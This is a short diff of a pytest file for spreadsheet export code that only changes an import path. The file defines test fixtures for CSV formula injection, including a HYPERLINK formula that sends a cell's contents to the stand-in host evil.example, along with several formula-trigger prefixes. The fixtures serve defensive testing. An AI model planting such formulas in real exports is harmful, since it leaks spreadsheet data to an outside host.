@@ -8,7 +8,7 @@ import pytest
 from openpyxl import load_workbook
 
 from api import exports
-from procedures.spreadsheets import csv_bytes, csv_restore, csv_value, formula_like, xlsx_table
+from kernel.spreadsheets import csv_bytes, csv_restore, csv_value, formula_like, xlsx_table
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
 TRIGGERS = [HYPERLINK, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1"]
